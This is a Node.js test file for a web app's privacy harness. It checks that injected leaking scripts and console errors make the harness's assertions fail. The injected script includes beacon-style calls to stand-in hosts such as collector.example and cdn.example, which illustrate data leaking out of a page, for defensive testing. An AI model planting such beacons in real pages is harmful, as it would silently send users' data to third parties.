// Tests of the harness itself: the shared assertions must really fail on a page that leaks.

import assert from 'node:assert/strict';
import fs from 'node:fs/promises';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import {
  DIST, assertNoConsoleErrors, assertNoForeignRequests, foreignRequests, openApp, startServer,
  waitForApp,
} from './harness.mjs';

/**
 * A copy of the built app with `script` injected at the end of index.html and without the
 * app's Content Security Policy: these tests prove that the harness itself sees what a page
 * does, which the policy would otherwise stop first (hosting.test.mjs tests the policy).
 */
async function brokenDist(script) {
  const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'lagebild-broken-'));
  await fs.cp(DIST, dir, { recursive: true });
  const index = path.join(dir, 'index.html');
  const html = (await fs.readFile(index, 'utf8'))
    .replace(/\s*<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
  assert.ok(!html.includes('Content-Security-Policy'));
  await fs.writeFile(index, html.replace('</body>', `<script>${script}</script></body>`));
  return dir;
}

/** Opens the broken copy; closes the browser before the copy is removed (the page may still
 * be loading its worker when a test ends). */
async function openBroken(t, root) {
  const session = await openApp({ root });
  t.after(async () => {
    await session.close();
    await fs.rm(root, { recursive: true, force: true });
  });
  return session;
}

async function until(condition, timeoutMs = 10_000) {
  const start = Date.now();
  while (!condition()) {
    if (Date.now() - start > timeoutMs) return;
    await new Promise((r) => setTimeout(r, 50));
  }
}

test('eine Seite, die fremde Hosts anfragt, lässt die Prüfung scheitern', async (t) => {
  const root = await brokenDist(`
    fetch('http://collector.example/leak?name=x').catch(() => {});
    new Image().src = 'https://cdn.example/pixel.gif';
    fetch('http://192.0.2.7/ip-literal').catch(() => {});
    fetch('https://accounts.google.com/page-leak').catch(() => {});
    fetch('./nicht-im-build.json').catch(() => {});
  `);
  const session = await openBroken(t, root);
  await waitForApp(session);
  const seen = (host) => session.server.requests.some((r) => r.host === host);
  await until(() => seen('collector.example') && seen('cdn.example:443') && seen('192.0.2.7')
    && session.browserRequests.some((u) => u.includes('page-leak')));

  // The server saw every attempt, with its host: plain http, https (CONNECT) and an IP literal.
  assert.ok(session.server.requests.some((r) => r.host === 'collector.example' && r.path === '/leak?name=x'));
  assert.ok(seen('cdn.example:443'), 'https-Versuch nicht gesehen');
  assert.ok(seen('192.0.2.7'), 'Anfrage an eine IP-Adresse nicht gesehen');
  assert.throws(() => assertNoForeignRequests(session), (err) => {
    assert.match(err.message, /Server: GET collector\.example\/leak/);
    assert.match(err.message, /Browser: https:\/\/cdn\.example\/pixel\.gif/);
    assert.match(err.message, /192\.0\.2\.7\/ip-literal/);
    // A page request to a host whose browser-internal traffic is ignored is still caught.
    assert.match(err.message, /Browser: https:\/\/accounts\.google\.com\/page-leak/);
    assert.match(err.message, /Server: GET 127\.0\.0\.1:\d+\/nicht-im-build\.json/);
    return true;
  });
});

test('eine Seite mit Konsolenfehler lässt die Prüfung scheitern', async (t) => {
  const root = await brokenDist(`console.error('absichtlicher Fehler');`);
  const session = await openBroken(t, root);
  await waitForApp(session);
  await until(() => session.consoleErrors.length > 0);
  assert.throws(() => assertNoConsoleErrors(session), /absichtlicher Fehler/);
  assertNoForeignRequests(session);
});

test('der Server zählt Nicht-HTTP-Verbindungen als fremd, einen bloßen Verbindungsabbruch nicht', async (t) => {
  const server = await startServer();
  t.after(() => server.close());
  const connect = () => new Promise((resolve, reject) => {
    const socket = net.connect(server.port, '127.0.0.1', () => resolve(socket));
    socket.on('error', reject);
  });
  // A TLS ClientHello sent straight to the server, as a direct https attempt would.
  const tls = await connect();
  tls.write(Buffer.from([0x16, 0x03, 0x01, 0x00, 0xa5, 0x01, 0x00, 0x00, 0xa1, 0x03, 0x03]));
  await until(() => server.requests.length > 0);
  tls.destroy();
  // A connection the browser opens and then drops without a byte.
  const idle = await connect();
  idle.resetAndDestroy();
  await new Promise((r) => setTimeout(r, 300));
  const foreign = foreignRequests({ server, browserRequests: [] });
  assert.equal(foreign.length, 1, foreign.join('\n'));
  assert.match(foreign[0], /keine HTTP-Verbindung/);
});
